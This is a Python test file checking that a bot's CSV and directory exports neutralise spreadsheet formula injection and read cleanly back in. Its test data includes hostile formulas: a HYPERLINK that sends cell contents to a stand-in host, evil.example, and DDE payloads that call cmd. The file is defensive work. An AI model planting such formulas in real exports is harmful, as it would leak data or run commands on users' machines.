"""Every CSV export writes cells a spreadsheet shows and never runs (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from bot.csvfile import safe_cell, to_csv, typed_cell
from commands.annuaire.contacts_csv import parse_contacts
from commands.annuaire.export import to_csv as directory_csv
from commands.annuaire.fields import DirectoryConfig
from tests.unit.test_directory_export import P

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Voir")',
    "+33 6 12 34 56 78 x",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_as_text_and_read_back_as_typed(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert typed_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["-3", "+1,5", "42", "-0.25", "38 %", "1 234", "Texte", "", "'déjà"])
def test_numbers_and_text_are_left_alone(value: str) -> None:
    assert safe_cell(value) == value
    assert typed_cell(value) == value


def test_every_cell_of_a_file() -> None:
    rows = list(csv.reader(io.StringIO(to_csv([["a", "=1+1"], [None, -3, "@x"]])), delimiter=";"))
    assert rows == [["a", "'=1+1"], ["", "-3", "'@x"]]


def test_the_directory_export_is_safe_and_imports_back() -> None:
    hostile = P(
        "@h:x.org",
        '=HYPERLINK("https://evil.example";"Camille")',
        structure="@Mairie",
        role="-Cheffe",
        bio="+ et =",
    )
    text = directory_csv([hostile])
    [_, row] = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row), row
    [contact] = parse_contacts(text.encode("utf-8-sig"), DirectoryConfig()).contacts
    assert (contact.name, contact.structure, contact.role) == (hostile.name, "@Mairie", "-Cheffe")
    assert contact.values()["bio"] == "+ et ="
